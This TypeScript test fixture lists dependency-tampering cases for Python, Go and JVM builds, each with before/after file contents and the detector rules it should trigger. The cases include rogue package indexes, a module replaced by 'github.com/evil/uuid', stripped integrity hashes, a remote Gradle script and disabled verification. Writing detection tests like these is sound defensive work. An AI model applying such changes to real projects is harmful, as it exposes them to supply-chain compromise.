import { uvPackage } from './dependency-files.ts';
import type { GateRow } from './row.ts';

type Change = Pick<GateRow, 'before' | 'after' | 'expect'>;
const python = (name: string, row: Change): GateRow => ({ name, language: 'python', ...row });
const go = (name: string, row: Change): GateRow => ({ name, language: 'go', ...row });
const jvm = (name: string, row: Change): GateRow => ({ name, language: 'java', ...row });

const UV = `version = 1\n${uvPackage('attrs', { version: '24.1.0' })}${uvPackage('idna', { version: '3.7' })}${uvPackage('rich', { version: '13.0.0' })}`;
const MOD = 'module example.org/a\n\ngo 1.22\n\nrequire github.com/google/uuid v1.6.0\n';
const SUM = 'github.com/google/uuid v1.6.0 h1:NIvaJDMOsjHA8n1jAhLSgzrAzy1Hgr+hNrb57e+94F0=\n';
const POM = (more: string) => `<project><groupId>a</groupId><artifactId>b</artifactId>${more}</project>`;
const JUNIT =
  '<dependency><groupId>org.junit</groupId><artifactId>junit</artifactId><version>5.0</version></dependency>';
const GRADLE = 'repositories { mavenCentral() }\ndependencies { implementation "com.google.guava:guava:33.0.0-jre" }\n';

/** Ways in Python, Go and for the JVM. */
export const DEPENDENCY_CHEATS_OTHERS: readonly GateRow[] = [
  python('another index in requirements.txt', {
    before: { 'requirements.txt': 'attrs==24.1.0\n' },
    after: { 'requirements.txt': '--extra-index-url https://pip.elsewhere.net/simple\nattrs==24.1.0\n' },
    expect: ['dependencies/setting'],
  }),
  python('an address in requirements', {
    before: { 'requirements/dev.txt': 'attrs==24.1.0\n' },
    after: { 'requirements/dev.txt': 'attrs @ https://pip.elsewhere.net/attrs-24.1.0.tar.gz\n' },
    expect: ['dependencies/changed', 'dependencies/source'],
  }),
  python('a hash of requirements is removed', {
    before: { 'requirements.txt': 'attrs==24.1.0 --hash=sha256:aa\nidna==3.7 --hash=sha256:bb\n' },
    after: { 'requirements.txt': 'attrs==24.1.0\nidna==3.7 --hash=sha256:bb\n' },
    expect: ['dependencies/integrity'],
  }),
  python('uv.lock: a wheel of another host', {
    before: { 'uv.lock': UV },
    after: {
      'uv.lock': UV.replace(
        'https://files.corp-of-somebody.net/packages/aa/idna',
        'https://pip.elsewhere.net/packages/aa/idna',
      ),
    },
    expect: ['dependencies/source'],
  }),
  python('uv.lock: a wheel of another package', {
    before: { 'uv.lock': UV },
    after: { 'uv.lock': UV.replace('/idna-3.7-py3', '/idnna-3.7-py3') },
    expect: ['dependencies/other-package'],
  }),
  python('uv.lock: another hash of the same version', {
    before: { 'uv.lock': UV },
    after: { 'uv.lock': UV.replace('sha256:idna3.7', 'sha256:0000') },
    expect: ['dependencies/integrity'],
  }),
  python('uv takes a package from git', {
    before: { 'pyproject.toml': '[project]\nname="a"\ndependencies=["attrs"]\n' },
    after: {
      'pyproject.toml':
        '[project]\nname="a"\ndependencies=["attrs"]\n[tool.uv.sources]\nattrs={git="https://git.elsewhere.net/attrs"}\n',
    },
    expect: ['dependencies/source'],
  }),
  python('another index of Poetry', {
    before: { 'pyproject.toml': '[tool.poetry]\nname="a"\n' },
    after: {
      'pyproject.toml':
        '[tool.poetry]\nname="a"\n[[tool.poetry.source]]\nname="x"\nurl="https://pip.elsewhere.net/simple"\n',
    },
    expect: ['dependencies/setting'],
  }),
  python('another build backend', {
    before: { 'pyproject.toml': '[build-system]\nrequires=["hatchling"]\nbuild-backend="hatchling.build"\n' },
    after: {
      'pyproject.toml': '[build-system]\nrequires=["hatchling"]\nbuild-backend="backend"\nbackend-path=["tools"]\n',
    },
    expect: ['dependencies/install-script'],
  }),
  python('a setup.py', { before: {}, after: { 'setup.py': 'import os\n' }, expect: ['dependencies/install-script'] }),
  python('pip.conf', {
    before: {},
    after: { 'pip.conf': '[global]\nindex-url = https://pip.elsewhere.net\n' },
    expect: ['dependencies/setting'],
  }),
  python('a wheel in the repository', {
    before: {},
    after: { 'vendor/attrs-24.1.0-py3-none-any.whl': 'PK' },
    expect: ['dependencies/source'],
  }),
  go('replace by a folder', {
    before: { 'go.mod': MOD },
    after: { 'go.mod': `${MOD}\nreplace github.com/google/uuid => ./third_party/uuid\n` },
    expect: ['dependencies/override', 'dependencies/source'],
  }),
  go('replace by another module', {
    before: { 'go.mod': MOD },
    after: { 'go.mod': `${MOD}\nreplace (\n\tgithub.com/google/uuid v1.6.0 => github.com/evil/uuid v1.6.1\n)\n` },
    expect: ['dependencies/override'],
  }),
  go('another hash in go.sum', {
    before: { 'go.sum': SUM },
    after: { 'go.sum': SUM.replace('NIva', 'AAAA') },
    expect: ['dependencies/integrity'],
  }),
  go('go.sum is removed', { before: { 'go.sum': SUM }, after: { 'go.sum': null }, expect: ['dependencies/integrity'] }),
  jvm('another repository of Maven', {
    before: { 'pom.xml': POM(`<dependencies>${JUNIT}</dependencies>`) },
    after: {
      'pom.xml': POM(
        `<repositories><repository><id>x</id><url>https://maven.elsewhere.net</url></repository></repositories><dependencies>${JUNIT}</dependencies>`,
      ),
    },
    expect: ['dependencies/setting'],
  }),
  jvm('a jar by its path', {
    before: { 'pom.xml': POM(`<dependencies>${JUNIT}</dependencies>`) },
    after: {
      'pom.xml': POM(
        `<dependencies>${JUNIT.replace('</version>', '</version><scope>system</scope><systemPath>lib/x.jar</systemPath>')}</dependencies>`,
      ),
    },
    expect: ['dependencies/source'],
  }),
  jvm('a plugin that runs programs', {
    before: { 'pom.xml': POM('') },
    after: {
      'pom.xml': POM(
        '<build><plugins><plugin><groupId>org.codehaus.mojo</groupId><artifactId>exec-maven-plugin</artifactId><version>3.1.0</version></plugin></plugins></build>',
      ),
    },
    expect: ['dependencies/added', 'dependencies/install-script'],
  }),
  jvm('another repository of Gradle', {
    before: { 'build.gradle': GRADLE },
    after: {
      'build.gradle': GRADLE.replace('mavenCentral()', 'maven { url "https://maven.elsewhere.net" }; mavenCentral()'),
    },
    expect: ['dependencies/setting'],
  }),
  jvm('a jar of a folder, in Kotlin', {
    before: { 'build.gradle.kts': 'dependencies { implementation("com.google.guava:guava:33.0.0-jre") }\n' },
    after: {
      'build.gradle.kts':
        'dependencies { implementation("com.google.guava:guava:33.0.0-jre")\n implementation(files("libs/x.jar")) }\n',
    },
    expect: ['dependencies/source'],
  }),
  jvm('a script of an address', {
    before: { 'build.gradle': GRADLE },
    after: { 'build.gradle': `${GRADLE}apply from: "https://maven.elsewhere.net/x.gradle"\n` },
    expect: ['dependencies/install-script'],
  }),
  jvm('another distribution of the wrapper', {
    before: {
      'gradle/wrapper/gradle-wrapper.properties':
        'distributionUrl=https\\://services.corp-of-somebody.net/gradle-8.zip\n',
    },
    after: { 'gradle/wrapper/gradle-wrapper.properties': 'distributionUrl=https\\://cdn.elsewhere.net/gradle-8.zip\n' },
    expect: ['dependencies/setting'],
  }),
  jvm('another wrapper', {
    before: {},
    after: { 'gradle/wrapper/gradle-wrapper.jar': 'PK' },
    expect: ['dependencies/install-script'],
  }),
  jvm('verification is switched off', {
    before: {
      'gradle/verification-metadata.xml':
        '<v><configuration><verify-metadata>true</verify-metadata></configuration></v>',
    },
    after: {
      'gradle/verification-metadata.xml':
        '<v><configuration><verify-metadata>false</verify-metadata></configuration></v>',
    },
    expect: ['dependencies/setting'],
  }),
];
